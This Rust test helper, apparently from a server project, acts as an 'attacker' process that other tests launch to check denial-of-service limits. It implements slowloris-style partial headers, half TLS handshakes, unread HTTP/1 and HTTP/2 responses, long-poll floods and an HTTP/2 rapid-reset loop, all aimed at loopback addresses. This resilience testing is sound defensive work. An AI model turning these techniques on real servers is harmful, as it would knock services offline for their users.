//! The attacker.

use std::{env, future::pending, io, net::SocketAddr, time::Duration};

use bytes::Bytes;
use futures_util::{StreamExt, stream};
use h2::{Reason, client};
use reqwest::Method;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
};

/// The variable that has the attack, its size, the server's address and the path of a large answer.
pub const TOLD: &str = "CONVENE_TEST_ATTACK";

/// From how many addresses many connections come: few enough for the limit of one address to matter, and enough for that of all.
const ADDRESSES: usize = 10;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// One HTTP/2 connection asks for large answers and reads none.
    Streams,
    /// Many HTTP/1 connections ask for large answers and read none.
    Readers,
    /// Many connections send half a head.
    Heads,
    /// Many connections send half a TLS handshake.
    Handshakes,
    /// One client opens long polls by HTTP/2.
    Waits,
    /// One client asks for new clusters by HTTP/2, and resets each request at once.
    Resets,
}

#[tokio::test]
#[ignore = "the attacker: other tests run it as a process of its own"]
async fn attacks_as_it_is_told() {
    let told = env::var(TOLD).expect("somebody runs the attacker");
    let [attack, count, address, path] = told.split(' ').collect::<Vec<_>>()[..] else { panic!("{told}") };
    rlimit::increase_nofile_limit(u64::MAX).unwrap();
    let count = count.parse().unwrap();
    match attack {
        "Streams" => ask_without_reading(address, path, count).await,
        "Readers" => {
            let request = format!("GET {path} HTTP/1.1\r\nHost: {address}\r\n\r\n");
            hold(connect_many(address, count, ADDRESSES, request.repeat(4).as_bytes()).await).await;
        }
        "Heads" => {
            let head = format!("GET {path} HTTP/1.1\r\nHost: {address}\r\nX-Long: {}", "x".repeat(15_000));
            hold(connect_many(address, count, ADDRESSES, head.as_bytes()).await).await;
        }
        "Handshakes" => {
            hold(connect_many(address, count, ADDRESSES, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03").await).await;
        }
        "Waits" => wait_in_vain(address, path, count).await,
        "Resets" => reset_for_ever(address).await,
        _ => panic!("{told}"),
    }
}

/// Opens connections from some addresses, and sends something on each.
pub async fn connect_many(address: &str, count: usize, addresses: usize, sent: &[u8]) -> Vec<TcpStream> {
    let connections = stream::iter(0..count).map(async |n| {
        let mut connection = connect(address, &format!("127.0.1.{}", 1 + n % addresses)).await.unwrap();
        // The server may have closed it already.
        let _ = connection.write_all(sent).await;
        connection
    });
    connections.buffer_unordered(64).collect().await
}

/// The status of an answer to a client with this address.
pub async fn status(address: &str, source: &str, path: &str) -> Option<u16> {
    let mut connection = connect(address, source).await.unwrap();
    let request = format!("GET {path} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n");
    connection.write_all(request.as_bytes()).await.ok()?;
    let mut answer = String::new();
    tokio::time::timeout(Duration::from_secs(5), connection.read_to_string(&mut answer)).await.ok()?.ok()?;
    answer.split(' ').nth(1)?.parse().ok()
}

/// A connection from this address, which can hold few bytes that nobody reads.
async fn connect(address: &str, source: &str) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4().unwrap();
    socket.set_recv_buffer_size(4096).unwrap();
    socket.bind(SocketAddr::new(source.parse().unwrap(), 0)).unwrap();
    socket.connect(address.parse().unwrap()).await
}

async fn hold(connections: Vec<TcpStream>) {
    println!("attacking with {} connections", connections.len());
    pending::<()>().await;
    drop(connections);
}

async fn http2(address: &str) -> Option<(client::SendRequest<Bytes>, tokio::task::JoinHandle<()>)> {
    let connection = connect(address, "127.0.1.1").await.ok()?;
    // Each answer stops at its first byte.
    let mut builder = client::Builder::new();
    builder.initial_window_size(1).initial_max_send_streams(10_000);
    let (requests, connection) = builder.handshake(connection).await.ok()?;
    Some((requests, tokio::spawn(async move { drop(connection.await) })))
}

fn get(address: &str, path: &str) -> http::Request<()> {
    http::Request::builder().method(Method::GET).uri(format!("http://{address}{path}")).body(()).unwrap()
}

async fn ask_without_reading(address: &str, path: &str, count: usize) {
    let (requests, _connection) = http2(address).await.unwrap();
    let mut held = Vec::new();
    for _ in 0..count {
        let mut ready = requests.clone().ready().await.unwrap();
        held.push(ready.send_request(get(address, path), true).unwrap());
    }
    let answers = stream::iter(held).map(async |(answer, _stream)| answer.await);
    let answers: Vec<_> = answers.buffer_unordered(count).collect().await;
    let accepted = answers.iter().flatten().filter(|answer| answer.status() == 200).count();
    println!("attacking with {} answers, {accepted} of them large", answers.len());
    pending::<()>().await;
    drop(answers);
}

/// Uses as many connections as it takes, all with one address.
async fn wait_in_vain(address: &str, path: &str, count: usize) {
    const OF_ONE_CONNECTION: usize = 1_000;
    let (mut held, mut accepted) = (Vec::new(), 0);
    let path = format!("{path}?wait=true&recursive=true");
    for _ in 0..count.div_ceil(OF_ONE_CONNECTION) {
        let (requests, connection) = http2(address).await.unwrap();
        let mut asked = Vec::new();
        for _ in 0..OF_ONE_CONNECTION.min(count) {
            let mut ready = requests.clone().ready().await.unwrap();
            asked.push(ready.send_request(get(address, &path), true).unwrap().0);
        }
        let answers: Vec<_> = stream::iter(asked).buffer_unordered(OF_ONE_CONNECTION).collect().await;
        accepted += answers.iter().flatten().filter(|answer| answer.status() == 200).count();
        held.push((answers, connection));
    }
    println!("attacking with {count} waits, of which {accepted} were accepted");
    pending::<()>().await;
    drop(held);
}

async fn reset_for_ever(address: &str) {
    let (mut resets, mut connections, mut refused) = (0_u64, 0_u64, 0_u64);
    loop {
        let before = resets;
        match http2(address).await {
            None => refused += 1,
            Some((requests, connection)) => {
                // The server closes the connection of such a client.
                while let Ok(mut ready) = requests.clone().ready().await {
                    let Ok((_, mut stream)) = ready.send_request(get(address, "/new"), true) else { break };
                    stream.send_reset(Reason::CANCEL);
                    resets += 1;
                    if resets.is_multiple_of(64) {
                        tokio::task::yield_now().await;
                    }
                }
                connection.abort();
            }
        }
        connections += 1;
        if connections == 1 || connections.is_multiple_of(1_000) || resets / 20_000 > before / 20_000 {
            println!("attacking with {resets} resets on {connections} connections, of which {refused} were refused");
        }
    }
}
